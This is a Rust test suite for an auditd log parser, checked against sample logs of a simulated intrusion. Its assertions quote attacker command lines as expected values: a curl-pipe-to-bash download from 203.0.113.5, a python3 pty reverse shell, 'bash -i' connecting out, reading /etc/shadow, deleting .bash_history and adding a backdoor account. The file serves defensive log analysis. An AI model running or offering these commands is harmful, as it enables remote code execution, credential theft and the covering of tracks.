//! Tests of the audit parser on realistic logs (tests/data/audit.log: an SSH brute force then
//! a login, a download-and-run, a reverse shell, sudo and reading shadow, a history wipe, a
//! long split argument, a non-UTF-8 argument; tests/data/audit-enriched.log: aarch64,
//! enriched, with node=), and on broken input.

use super::*;
use crate::{Format, Options};

const RAW: &[u8] = include_bytes!("../../tests/data/audit.log");
const ENRICHED: &[u8] = include_bytes!("../../tests/data/audit-enriched.log");

fn run(data: &[u8], options: &Options) -> (Vec<Event>, Vec<ParseIssue>) {
    let mut events = Vec::new();
    let mut issues = Vec::new();
    let mut input = data;
    parse("audit.log", &mut input, options, &mut |r| match r {
        Ok(e) => events.push(e),
        Err(i) => issues.push(i),
    })
    .unwrap();
    (events, issues)
}

fn by_serial(events: &[Event], serial: u64) -> &Event {
    let tail = format!(", serial {serial}");
    events
        .iter()
        .find(|e| e.origin.record.ends_with(&tail))
        .unwrap_or_else(|| panic!("no event with serial {serial}"))
}

#[test]
fn the_sample_log_sniffs_as_audit() {
    assert!(sniff(RAW));
    assert!(sniff(ENRICHED));
    assert!(sniff(
        b"\n\nnode=a type=DAEMON_START msg=audit(1.0:1): op=start"
    ));
    assert!(!sniff(b"type=SYSCALL something else"));
    // A rotated log may start with the end of a cut line; a record type auditd does not name.
    assert!(sniff(
        b"0000000\ntype=UNKNOWN[1334] msg=audit(1724214600.000:1): x=1\n"
    ));
    assert!(!sniff(b"a\nb\nc\nd\ntype=SYSCALL msg=audit(1.0:1): x=1\n"));
    assert!(!sniff(b"{\"__CURSOR\":\"s=1\"}"));
    assert!(!sniff(b"Timestamp,DeviceName,ActionType\n"));
    assert!(!sniff(b""));
    assert_eq!(crate::detect(RAW), Some(Format::Audit));
}

#[test]
fn every_event_of_the_sample_is_read_and_nothing_is_an_issue() {
    let (events, issues) = run(RAW, &Options::default());
    assert!(issues.is_empty(), "{issues:#?}");
    // 7 user-space records, 7 syscall events.
    assert_eq!(events.len(), 14, "{events:#?}");
    assert!(events.iter().all(|e| e.host == "unknown"));
    let (events, _) = run(
        RAW,
        &Options {
            host: Some("web01".into()),
        },
    );
    assert!(events.iter().all(|e| e.host == "web01"));
}

#[test]
fn an_execve_joins_syscall_execve_cwd_path_and_proctitle() {
    let (events, _) = run(RAW, &Options::default());
    let e = by_serial(&events, 8812);
    assert_eq!(e.time, "2024-08-21T04:28:55.512Z");
    assert_eq!(e.action, "execve");
    assert_eq!(e.source.format, Format::Audit);
    assert_eq!(e.source.table.as_deref(), Some("SYSCALL"));
    assert_eq!(e.origin.record, "lines 8-14, serial 8812");
    assert_eq!(e.origin.file, "audit.log");
    assert_eq!(e.outcome.as_deref(), Some("success"));
    assert_eq!(e.user.as_deref(), Some("uid=1001"));
    let p = e.process.as_ref().unwrap();
    assert_eq!(p.pid, Some(4187));
    assert_eq!(p.ppid, Some(4120));
    assert_eq!(p.name.as_deref(), Some("bash"));
    assert_eq!(p.exe.as_deref(), Some("/usr/bin/bash"));
    assert_eq!(p.user.as_deref(), Some("uid=1001"));
    assert_eq!(
        p.command_line.as_deref(),
        Some("bash -c curl -s http://203.0.113.5/x.sh | bash")
    );
    assert_eq!(e.file.as_deref(), Some("/usr/bin/bash"));
    assert_eq!(e.fields["cwd"], "/home/alice");
    assert_eq!(e.fields["key"], "exec");
    assert_eq!(e.fields["argc"], "3");
    assert_eq!(e.fields["arch"], "x86_64");
    assert_eq!(e.fields["syscall"], "59");
    assert_eq!(e.fields["path_mode"], "0100755");
    assert!(!e.fields.contains_key("argv_hex"));
}

#[test]
fn a_connect_gets_its_peer_from_sockaddr_and_its_command_line_from_proctitle() {
    let (events, _) = run(RAW, &Options::default());
    let e = by_serial(&events, 8813);
    assert_eq!(e.action, "connect");
    assert_eq!(e.outcome.as_deref(), Some("failure"));
    assert_eq!(e.fields["exit"], "-115");
    let peer = e.peer.as_ref().unwrap();
    assert_eq!(peer.addr.as_deref(), Some("203.0.113.5"));
    assert_eq!(peer.port, Some(4433));
    assert_eq!(e.fields["sockaddr_family"], "inet");
    assert_eq!(
        e.process.as_ref().unwrap().command_line.as_deref(),
        Some("bash -i")
    );
}

#[test]
fn ssh_failures_then_a_login_are_user_records_with_account_address_and_outcome() {
    let (events, _) = run(RAW, &Options::default());
    let e = by_serial(&events, 8700);
    assert_eq!(e.action, "USER_AUTH");
    assert_eq!(e.source.table.as_deref(), Some("USER_AUTH"));
    assert_eq!(e.user.as_deref(), Some("admin"));
    assert_eq!(e.outcome.as_deref(), Some("failure"));
    assert_eq!(
        e.peer.as_ref().unwrap().addr.as_deref(),
        Some("198.51.100.23")
    );
    assert_eq!(e.fields["op"], "PAM:authentication");
    assert_eq!(e.fields["terminal"], "ssh");
    assert_eq!(e.origin.record, "line 1, serial 8700");
    let p = e.process.as_ref().unwrap();
    assert_eq!(p.exe.as_deref(), Some("/usr/sbin/sshd"));
    assert_eq!(p.name.as_deref(), Some("sshd"));
    assert_eq!(p.pid, Some(3990));
    // A hex-encoded acct.
    let e = by_serial(&events, 8702);
    assert_eq!(e.action, "USER_LOGIN");
    assert_eq!(e.user.as_deref(), Some("(invalid user)"));
    assert!(!e.fields.contains_key("hostname"), "hostname=? is no value");
    // The login: id= when there is no acct=.
    let e = by_serial(&events, 8720);
    assert_eq!(e.action, "USER_LOGIN");
    assert_eq!(e.user.as_deref(), Some("uid=1001"));
    assert_eq!(e.outcome.as_deref(), Some("success"));
    assert_eq!(e.fields["auid"], "uid=1001");
    assert_eq!(e.fields["ses"], "7");
    assert_eq!(by_serial(&events, 8719).action, "LOGIN");
}

#[test]
fn sudo_and_interleaved_events_of_two_serials() {
    let (events, _) = run(RAW, &Options::default());
    let e = by_serial(&events, 8814);
    assert_eq!(e.action, "USER_CMD");
    assert_eq!(
        e.process.as_ref().unwrap().command_line.as_deref(),
        Some("cat /etc/shadow")
    );
    assert_eq!(e.fields["cwd"], "/home/alice");
    // 8815 and 8816 are interleaved line by line and have no EOE.
    let a = by_serial(&events, 8815);
    assert_eq!(a.action, "openat");
    assert_eq!(a.origin.record, "lines 20-27, serial 8815");
    assert_eq!(a.file.as_deref(), Some("/etc/shadow"));
    assert_eq!(a.fields["key"], "shadow");
    assert_eq!(a.user.as_deref(), Some("uid=1001"));
    assert_eq!(a.process.as_ref().unwrap().user.as_deref(), Some("uid=0"));
    assert_eq!(
        a.process.as_ref().unwrap().command_line.as_deref(),
        Some("cat /etc/shadow")
    );
    let b = by_serial(&events, 8816);
    assert_eq!(b.action, "unlink");
    assert_eq!(b.origin.record, "lines 21-28, serial 8816");
    // The DELETE item, not the PARENT directory.
    assert_eq!(b.file.as_deref(), Some(".bash_history"));
    assert_eq!(b.fields["path_nametype"], "DELETE");
    assert_eq!(
        b.process.as_ref().unwrap().command_line.as_deref(),
        Some("rm -f .bash_history")
    );
}

#[test]
fn a_split_argument_is_joined_and_a_non_utf8_one_keeps_its_hex() {
    let (events, _) = run(RAW, &Options::default());
    let e = by_serial(&events, 8817);
    let cl = e.process.as_ref().unwrap().command_line.clone().unwrap();
    assert!(cl.starts_with("python3 -c import socket,os,pty;"), "{cl}");
    assert!(cl.ends_with("pty.spawn(\"bash\")"), "{cl}");
    let e = by_serial(&events, 8818);
    let cl = e.process.as_ref().unwrap().command_line.clone().unwrap();
    assert_eq!(cl, "cat /tmp/\u{fffd}\u{fffd} name");
    assert_eq!(e.fields["argv_hex"], record::hex(b"cat /tmp/\xff\xfe name"));
}

#[test]
fn an_enriched_aarch64_log_uses_the_translations_and_node() {
    let (events, issues) = run(
        ENRICHED,
        &Options {
            host: Some("ignored".into()),
        },
    );
    assert!(issues.is_empty(), "{issues:#?}");
    assert_eq!(events.len(), 3);
    let e = by_serial(&events, 120_431);
    assert_eq!(e.host, "build-arm01");
    assert_eq!(e.action, "execve");
    assert_eq!(e.fields["arch"], "aarch64");
    assert_eq!(e.user.as_deref(), Some("ubuntu"));
    assert_eq!(e.fields["euid"], "root");
    let p = e.process.as_ref().unwrap();
    assert_eq!(p.user.as_deref(), Some("root"));
    assert_eq!(
        p.command_line.as_deref(),
        Some("useradd -m -s/bin/bash svc-backup")
    );
    let e = by_serial(&events, 120_436);
    assert_eq!(e.action, "ADD_USER");
    assert_eq!(e.user.as_deref(), Some("svc-backup"));
    assert_eq!(e.fields["op"], "add-user");
    assert_eq!(e.fields["auid"], "ubuntu");
    let e = by_serial(&events, 120_500);
    assert_eq!(e.user.as_deref(), Some("root"));
    assert_eq!(
        e.peer.as_ref().unwrap().addr.as_deref(),
        Some("2001:db8::17")
    );
    assert!(!e.fields.contains_key("auid"), "AUID=unset is no account");
}

#[test]
fn the_raw_numbers_name_an_aarch64_syscall_without_enrichment() {
    let log = b"type=SYSCALL msg=audit(1724300000.000:7): arch=c00000b7 syscall=203 success=yes exit=0 items=0 ppid=1 pid=2 auid=4294967295 uid=0 comm=\"nc\" exe=\"/usr/bin/nc.openbsd\" key=(null)\n\
type=SOCKADDR msg=audit(1724300000.000:7): saddr=0A0001BB0000000020010DB8000000000000000000000001000000000000\n\
type=SYSCALL msg=audit(1724300000.000:8): arch=c000003e syscall=999 success=yes exit=0 pid=3 uid=0 comm=\"x\"\n";
    let (events, issues) = run(log, &Options::default());
    assert!(issues.is_empty());
    let e = by_serial(&events, 7);
    assert_eq!(e.action, "connect");
    assert_eq!(e.user.as_deref(), Some("uid=0"), "auid unset: the uid");
    assert!(!e.fields.contains_key("key"));
    assert_eq!(
        e.peer.as_ref().unwrap().addr.as_deref(),
        Some("2001:db8::1")
    );
    assert_eq!(e.peer.as_ref().unwrap().port, Some(443));
    assert_eq!(e.origin.record, "lines 1-2, serial 7");
    assert_eq!(by_serial(&events, 8).action, "syscall_999");
}

#[test]
fn garbage_a_truncated_last_line_and_non_utf8_bytes_are_issues_with_line_numbers() {
    let mut log = Vec::new();
    log.extend_from_slice(b"hello world\n");
    log.extend_from_slice(b"\xff\xfe\x00\x01 binary\n");
    log.extend_from_slice(b"type=SYSCALL msg=audit(1724214600.000): arch=c000003e syscall=59\n");
    log.extend_from_slice(
        b"type=SYSCALL msg=audit(1724214600.100:9100): arch=c000003e syscall=59 success=yes exit=0 pid=10 uid=0 comm=\"caf\xe9\" exe=\"/usr/bin/x\"\n",
    );
    log.extend_from_slice(b"type=EOE msg=audit(1724214600.100:9100): \n");
    log.extend_from_slice(b"type=SYSCALL msg=audit(1724214600.200:9101): arch=c000003e syscall=59 success=yes exit=0 comm=\"ba");
    let (events, issues) = run(&log, &Options::default());
    let at: Vec<&str> = issues.iter().map(|i| i.record.as_str()).collect();
    assert_eq!(at, ["line 1", "line 2", "line 3", "line 6"], "{issues:#?}");
    assert!(issues[2].reason.contains("no serial"));
    assert!(issues[3].reason.contains("unterminated"));
    assert!(issues.iter().all(|i| i.file == "audit.log"));
    assert_eq!(events.len(), 1);
    assert_eq!(
        events[0].process.as_ref().unwrap().name.as_deref(),
        Some("caf\u{fffd}")
    );
    assert_eq!(events[0].fields["comm_hex"], "636166e9");
}

#[test]
fn an_absurd_time_is_an_issue_for_the_event_and_the_parse_goes_on() {
    let log = b"type=USER_LOGIN msg=audit(99999999999999999.000:1): pid=1 uid=0 msg='op=login acct=\"a\" res=success'\n\
type=USER_LOGIN msg=audit(1724214600.000:2): pid=1 uid=0 msg='op=login acct=\"b\" res=success'\n";
    let (events, issues) = run(log, &Options::default());
    assert_eq!(issues.len(), 1);
    assert_eq!(issues[0].record, "line 1, serial 1");
    assert!(issues[0].reason.contains("out of range"));
    assert_eq!(events.len(), 1);
    assert_eq!(events[0].user.as_deref(), Some("b"));
}

#[test]
fn memory_stays_bounded_when_events_never_end() {
    // 10 000 events whose EOE never comes: the window flushes them as it goes.
    let mut log = Vec::new();
    for i in 0..10_000u32 {
        log.extend_from_slice(
            format!(
                "type=SYSCALL msg=audit(1724214600.000:{i}): arch=c000003e syscall=2 success=yes exit=3 pid=1 uid=0 comm=\"x\"\n"
            )
            .as_bytes(),
        );
    }
    let mut input = &log[..];
    let mut joiner_max = 0usize;
    let mut n = 0usize;
    parse("a", &mut input, &Options::default(), &mut |r| {
        assert!(r.is_ok());
        n += 1;
        joiner_max = joiner_max.max(n);
    })
    .unwrap();
    assert_eq!(n, 10_000);
    // And the open window: at most WINDOW events are held (checked on the joiner directly).
    let mut sink = |_: Result<Event, ParseIssue>| {};
    let opts = Options::default();
    let mut j = Joiner {
        file: "a",
        options: &opts,
        open: VecDeque::new(),
        bytes: 0,
        out: &mut sink,
        spare: Vec::new(),
        spare_lists: Vec::new(),
    };
    for (i, line) in log
        .split(|&b| b == b'\n')
        .filter(|l| !l.is_empty())
        .enumerate()
    {
        j.add(Record::parse(i as u64 + 1, line).unwrap());
        assert!(j.open.len() <= WINDOW);
    }
}

#[test]
fn an_event_flooded_with_records_is_capped_and_the_rest_reported() {
    // 100 PATH records of 100 KB for one serial: about 10 MB, over MAX_EVENT_BYTES.
    let mut log = b"type=SYSCALL msg=audit(1724214600.000:5): arch=c000003e syscall=87 success=yes exit=0 pid=1 uid=0 comm=\"rm\"\n".to_vec();
    let name = "A".repeat(100_000);
    for i in 0..100 {
        log.extend_from_slice(
            format!(
                "type=PATH msg=audit(1724214600.000:5): item={i} name=\"/{name}\" nametype=DELETE\n"
            )
            .as_bytes(),
        );
    }
    log.extend_from_slice(b"type=EOE msg=audit(1724214600.000:5): \n");
    let (events, issues) = run(&log, &Options::default());
    assert_eq!(events.len(), 1);
    assert_eq!(events[0].action, "unlink");
    assert_eq!(events[0].origin.record, "lines 1-102, serial 5");
    let kept = (MAX_EVENT_BYTES - 100) / 100_040;
    assert_eq!(issues.len(), 100 - kept, "{}", issues[0].reason);
    assert!(issues[0].reason.contains("over 8388608 bytes"));
    assert_eq!(issues[0].record, format!("line {}", kept + 2));
}

#[test]
fn a_record_that_comes_too_late_starts_a_new_partial_event() {
    // Too many lines later.
    let mut log = b"type=SYSCALL msg=audit(1724214600.000:1): arch=c000003e syscall=59 success=yes exit=0 pid=7 uid=0 comm=\"sh\"\n".to_vec();
    for i in 2..=(STALE_LINES + 2) {
        log.extend_from_slice(
            format!(
                "type=USER_END msg=audit(1724214600.000:{i}): pid=1 uid=0 msg='op=x res=success'\n"
            )
            .as_bytes(),
        );
    }
    log.extend_from_slice(b"type=EXECVE msg=audit(1724214600.000:1): argc=1 a0=\"sh\"\n");
    let (events, issues) = run(&log, &Options::default());
    assert!(issues.is_empty());
    let ones: Vec<(&str, &str)> = events
        .iter()
        .filter(|e| e.origin.record.ends_with(", serial 1"))
        .map(|e| (e.action.as_str(), e.origin.record.as_str()))
        .collect();
    let late = format!("line {}, serial 1", STALE_LINES + 3);
    assert_eq!(
        ones,
        [("execve", "line 1, serial 1"), ("EXECVE", late.as_str())]
    );
    // Too many serials later (same node), even on the next line.
    let log = b"node=a type=SYSCALL msg=audit(1724214600.000:10): arch=c000003e syscall=59 success=yes exit=0 pid=7 uid=0\n\
node=a type=SYSCALL msg=audit(1724214600.500:300): arch=c000003e syscall=59 success=yes exit=0 pid=8 uid=0\n\
node=a type=EXECVE msg=audit(1724214600.000:10): argc=1 a0=\"sh\"\n\
node=b type=SYSCALL msg=audit(1724214600.000:11): arch=c000003e syscall=59 success=yes exit=0 pid=9 uid=0\n\
node=a type=SYSCALL msg=audit(1724214601.000:400): arch=c000003e syscall=59 success=yes exit=0 pid=8 uid=0\n\
node=b type=EXECVE msg=audit(1724214600.000:11): argc=1 a0=\"sh\"\n";
    let (events, _) = run(log, &Options::default());
    let got: Vec<(&str, &str)> = events
        .iter()
        .map(|e| (e.action.as_str(), e.origin.record.as_str()))
        .collect();
    assert_eq!(
        got,
        [
            // Flushed by serial 300 on line 2.
            ("execve", "line 1, serial 10"),
            // Flushed by serial 400 on line 5; the others at the end.
            ("EXECVE", "line 3, serial 10"),
            ("execve", "line 2, serial 300"),
            ("execve", "lines 4-6, serial 11"),
            ("execve", "line 5, serial 400"),
        ]
    );
}

#[test]
fn a_line_over_the_cap_is_an_issue() {
    let mut log = b"type=EXECVE msg=audit(1.0:1): a0=".to_vec();
    log.extend(std::iter::repeat_n(b'A', MAX_LINE + 10));
    log.extend_from_slice(
        b"\ntype=USER_LOGIN msg=audit(1724214600.000:2): pid=1 msg='res=success'\n",
    );
    let (events, issues) = run(&log, &Options::default());
    assert_eq!(issues.len(), 1);
    assert_eq!(issues[0].record, "line 1");
    assert!(issues[0].reason.contains("over"));
    assert_eq!(events.len(), 1);
}

#[test]
fn a_gzipped_rotated_log_goes_through_the_crate_parse() {
    use flate2::{Compression, write::GzEncoder};
    use std::io::Write;
    let mut gz = GzEncoder::new(Vec::new(), Compression::default());
    gz.write_all(RAW).unwrap();
    let gz = gz.finish().unwrap();
    let mut events = 0;
    let (format, counts) = crate::parse(
        "audit.log.1.gz",
        &gz[..],
        None,
        &Options::default(),
        &mut |r| {
            assert!(r.is_ok());
            events += 1;
        },
    )
    .unwrap();
    assert_eq!(format, Format::Audit);
    assert_eq!(counts.events, 14);
    assert_eq!(counts.issues, 0);
    assert_eq!(events, 14);
}

#[test]
fn a_cut_gzip_stream_delivers_the_events_before_the_cut_then_a_read_error() {
    use flate2::{Compression, write::GzEncoder};
    use std::io::Write;
    let mut gz = GzEncoder::new(Vec::new(), Compression::default());
    for _ in 0..200 {
        gz.write_all(RAW).unwrap();
    }
    let gz = gz.finish().unwrap();
    let cut = &gz[..gz.len() / 2];
    let mut events = 0u64;
    let err = crate::parse("audit.log.2.gz", cut, None, &Options::default(), &mut |r| {
        if r.is_ok() {
            events += 1;
        }
    })
    .unwrap_err();
    assert!(matches!(err, crate::Error::Read { .. }), "{err}");
    assert!(
        err.to_string()
            .starts_with("audit.log.2.gz: reading failed")
    );
    assert!(events > 100 && events < 200 * 14, "{events}");
}

/// xorshift64*: a fixed-seed generator, so that a failure reproduces.
fn next(state: &mut u64) -> u64 {
    *state ^= *state >> 12;
    *state ^= *state << 25;
    *state ^= *state >> 27;
    state.wrapping_mul(0x2545_f491_4f6c_dd1d)
}

#[test]
fn arbitrary_bytes_and_mangled_records_never_panic() {
    let mut s = 0x9e37_79b9_7f4a_7c15u64;
    let pieces: Vec<&[u8]> = RAW
        .split(|&b| b == b'\n')
        .chain(ENRICHED.split(|&b| b == b'\n'))
        .collect();
    for round in 0..3000 {
        let mut data = Vec::new();
        for _ in 0..(next(&mut s) % 12) {
            let p = pieces[(next(&mut s) % pieces.len() as u64) as usize];
            let mut line = p.to_vec();
            // Cut, flip or splice random bytes.
            match next(&mut s) % 4 {
                0 if !line.is_empty() => line.truncate((next(&mut s) % line.len() as u64) as usize),
                1 if !line.is_empty() => {
                    for _ in 0..4 {
                        let i = (next(&mut s) % line.len() as u64) as usize;
                        line[i] = next(&mut s) as u8;
                    }
                }
                2 => line.extend((0..next(&mut s) % 64).map(|_| next(&mut s) as u8)),
                _ => {}
            }
            data.extend_from_slice(&line);
            data.push(b'\n');
        }
        let mut input = &data[..];
        let r = parse("fuzz", &mut input, &Options::default(), &mut |_| {});
        assert!(r.is_ok(), "round {round}");
        let _ = sniff(&data);
    }
}
